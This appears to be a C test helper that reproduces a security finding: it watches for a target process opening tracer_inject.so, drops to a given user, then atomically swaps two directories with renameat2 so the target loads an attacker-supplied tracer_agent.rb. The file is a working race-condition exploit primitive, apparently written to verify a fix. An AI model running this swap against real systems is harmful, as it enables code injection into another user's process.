/*
 * swap_on_open.c FILE UID A B: the attacker of issue 43's first finding. Watches FILE for an
 * open (inotify: the target's dlopen of tracer_inject.so), then, as UID, exchanges the
 * directories A and B (renameat2 RENAME_EXCHANGE) at once, so that what the target resolves
 * next through A (the agent's tracer_agent.rb, required by the loader's thread) is B's. The
 * watch is made before dropping to UID: it only times the swap, which UID does with its own
 * rights. Prints "watching" once ready, "swapped" after; built by the test with cc.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int
main(int argc, char **argv)
{
	char buf[4096];
	int fd;
	uid_t uid;

	if (argc != 5)
		return 2;
	uid = (uid_t)strtoul(argv[2], NULL, 10);
	if ((fd = inotify_init1(IN_CLOEXEC)) < 0 || inotify_add_watch(fd, argv[1], IN_OPEN) < 0) {
		perror("inotify");
		return 1;
	}
	if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0) {
		perror("dropping to the uid");
		return 1;
	}
	printf("watching\n");
	fflush(stdout);
	if (read(fd, buf, sizeof(buf)) <= 0)
		return 1;
	if (syscall(SYS_renameat2, AT_FDCWD, argv[3], AT_FDCWD, argv[4], RENAME_EXCHANGE) < 0) {
		perror("renameat2");
		return 1;
	}
	printf("swapped\n");
	fflush(stdout);
	return 0;
}
